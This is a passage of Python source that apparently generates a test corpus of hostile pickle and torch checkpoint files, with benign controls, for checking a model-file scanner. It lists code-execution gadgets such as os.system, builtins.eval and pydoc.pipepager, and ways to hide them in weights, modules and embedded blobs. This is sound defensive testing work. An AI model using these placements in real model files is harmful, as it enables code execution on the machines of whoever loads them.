                obj = self.encoder
            if base == MODULE and placement == "module_attr":
                self.encoder.pool_slot = SLOT
            try:
                if base == MODULE:
                    with synth.legacy_modeling_module():
                        self._cache[key] = _save(obj, container, protocol)
                else:
                    self._cache[key] = _save(obj, container, protocol)
            finally:
                self.encoder.__dict__.pop("pool_slot", None)
        return self._cache[key]

    def splice(self, base: str, placement: str, container: str, protocol: int, ops: bytes) -> bytes:
        data = self.raw(base, placement, container, protocol)
        if placement in ("entry", "module_attr"):
            edit = functools.partial(_swap, ops=ops)
        elif placement == "start":
            edit = functools.partial(_prepend, ops=ops)
        elif placement == "blob":
            if container != "pickle":
                raise ValueError("blob placement needs a plain pickle")
            return edit_first_blob(data, functools.partial(edit_legacy, edit=functools.partial(_prepend, ops=ops)))
        else:
            raise ValueError(placement)
        if container == "zip":
            return edit_zip(data, edit)
        if container == "legacy":
            return edit_legacy(data, edit)
        return edit(data)


def _swap(p: bytes, *, ops: bytes) -> bytes:
    return replace_slot(p, ops)


def _prepend(p: bytes, *, ops: bytes) -> bytes:
    return insert_at_start(p, ops)


def _spellings(protocol: int) -> tuple[str, ...]:
    return ("global", "stack") if protocol >= 4 else ("global",)


class _CorpusBuilder:
    """Collects the hostile items and the control each one is read beside (see `build_corpus`)."""

    def __init__(self) -> None:
        self.bases = _Bases()
        self.items: list[Item] = []
        self.controls: dict[str, bytes] = {}
        self.others = [c for c in CONTAINERS if c != ("zip", 2)]

    def add(self, family: str, label: str, container: str, protocol: int, spelling: str, form: str,
            placement: str, base: str, names: tuple, hostile: tuple, ops: bytes) -> None:
        key = f"{base}/{placement}/{container}{protocol}"
        if key not in self.controls:
            self.controls[key] = self.bases.splice(base, placement, container, protocol, b"N")
        item = Item(family, label, container, protocol, spelling, form, placement, base, names, hostile, key)
        item.data = self.bases.splice(base, placement, container, protocol, ops)
        self.items.append(item)

    def gadget(self, family: str, g: Gadget, container: str, protocol: int, spelling: str, form: str,
               placement: str = "entry", base: str = STATE_DICT) -> None:
        self.add(family, g.dotted, container, protocol, "inst" if form == "inst" else spelling, form, placement,
                 base, ((g.module, g.name),), (g.dotted,), invoke(form, spelling, g))

    def other(self, n: int) -> tuple[str, int]:
        return self.others[n % len(self.others)]

    def catalogue(self) -> None:
        """Every global called with REDUCE beside a state dict, in a torch zip (GLOBAL, protocol 2, as
        torch.save writes) and in one more container, rotating (STACK_GLOBAL where the protocol has it)."""
        for n, g in enumerate(CATALOGUE):
            for container, protocol in (("zip", 2), self.other(n)):
                self.gadget("catalogue", g, container, protocol, "stack" if protocol >= 4 else "global", "reduce")

    def forms(self) -> None:
        """Every form in every container and spelling, rotating through globals most of which the old
        deny-list accepted."""
        gadgets = [_find(d) for d in (
            "pydoc.pipepager", "uuid._get_command_stdout", "imaplib.IMAP4_stream", "numpy.load",
            "open_clip.load_checkpoint", "hydra.utils.instantiate", "torch._utils._import_dotted_name",
            "doctest.debug_script", "os.system")]
        cases = [(container, protocol, form, spelling) for container, protocol in CONTAINERS for form in FORMS
                 for spelling in (("inst",) if form == "inst" else _spellings(protocol)) for _ in range(2)]
        for n, (container, protocol, form, spelling) in enumerate(cases):
            self.gadget("forms", gadgets[n % len(gadgets)], container, protocol, spelling, form)

    def placements(self) -> None:
        """Beside the weights, in a pickled module, at the start of the pickle, in a blob (a blob is a
        protocol-2 legacy stream: GLOBAL only)."""
        gadgets = [_find(d) for d in (
            "pydoc.pipepager", "torch.utils.collect_env.run", "ensurepip._run_pip",
            "open_clip.factory.create_model_and_transforms", "datasets.load_dataset", "builtins.eval")]
        where = ((STATE_DICT, "entry"), (STATE_DICT, "start"), (MODULE, "module_attr"), (MODULE, "start"),
                 (STATE_DICT, "blob"), (MODULE, "blob"))
        cases = [(container, protocol, base, placement) for container, protocol in CONTAINERS
                 for base, placement in where if placement != "blob" or container == "pickle" for _ in range(2)]
        for n, (container, protocol, base, placement) in enumerate(cases):
            spelling = "global" if placement == "blob" or protocol < 4 else "stack"
            self.gadget("placements", gadgets[n % len(gadgets)], container, protocol, spelling, "reduce",
                        placement, base)

    def dotted(self) -> None:
        """GLOBAL in protocol 2 and 4, STACK_GLOBAL, called and merely referenced."""
        for n, g in enumerate(DOTTED):
            self.gadget("dotted", g, "zip", 2, "global", "reduce")
            self.gadget("dotted", g, "zip", 4, "global", "reduce")
            container, protocol = self.other(n)
            self.gadget("dotted", g, container, protocol, "stack" if protocol >= 4 else "global", "reference")
            self.gadget("dotted", g, "pickle", 4, "stack", "reduce")

    def odd_names(self) -> None:
        """GLOBAL, STACK_GLOBAL, INST (INST names are ASCII to CPython)."""
        for n, g in enumerate(ODD_NAMES):
            self.gadget("odd_names", g, "zip", 2, "global", "reduce")
            self.gadget("odd_names", g, "pickle", 4, "stack", "reduce")
            container, protocol = self.other(n)
            self.gadget("odd_names", g, container, protocol, "stack" if protocol >= 4 else "global", "reference")
            if (g.module + g.name).isascii():
                self.gadget("odd_names", g, "legacy", 2, "inst", "inst")

    def disguised(self) -> None:
        """Disguised chains, beside a state dict and at the start of a pickled module."""
        for n, chain in enumerate(DISGUISED):
            for container, protocol in (("zip", 2), self.other(n), self.other(n + 3)):
                for spelling in _spellings(protocol):
                    ops = _chain_ops(chain.label, functools.partial(spell, spelling))
                    for placement, base in (("entry", STATE_DICT), ("start", MODULE)):
                        self.add("disguised", chain.label, container, protocol, spelling, "chain", placement, base,
                                 chain.names, chain.hostile, ops)


def build_corpus() -> Corpus:
    """Every hostile file, its control, and the weights the controls must load.

    Not every point of every axis: each global is crossed with a few containers (rotating through
    the rest), each form and placement with every container (rotating through the globals), so
    the whole corpus reads in seconds.
    """
    builder = _CorpusBuilder()
    for family in (builder.catalogue, builder.forms, builder.placements, builder.dotted, builder.odd_names,
                   builder.disguised):
        family()
    weights = {STATE_DICT: builder.bases.state_dict, MODULE: builder.bases.state_dict}
    return Corpus(builder.items, builder.controls, weights)


def _find(dotted: str) -> Gadget:
    return next(g for g in CATALOGUE if g.dotted == dotted)


def pickles_of(data: bytes, container: str) -> list[bytes]:
    """Every pickle a reader of this file unpickles: ``data.pkl``; the legacy stream's main
    pickle; a plain pickle and each ``_load_from_bytes`` blob's main pickle in it. Each from its
    start to the end of the bytes (an unpickler stops at its STOP)."""
    if container == "zip":
        return [body for name, body in zip_members(data) if name.endswith("/data.pkl")]
    if container == "legacy":
        return [data[_legacy_main_start(data):]]
    out = [data]
    for name, arg, _, _ in _ops_until_error(data):
        blob = None
        if name in ("BINBYTES", "SHORT_BINBYTES", "BINBYTES8") and arg.startswith(_LEGACY_MAGIC_PICKLE):
            blob = arg
        elif name in _STRING_OPS and arg.encode("latin1", "replace").startswith(_LEGACY_MAGIC_PICKLE):
            blob = arg.encode("latin1")
        if blob is not None:
            out.append(blob[_legacy_main_start(blob):])
    return out


if __name__ == "__main__":  # pragma: no cover - a summary for people
    import json

    print(json.dumps(build_corpus().counts(), indent=2))
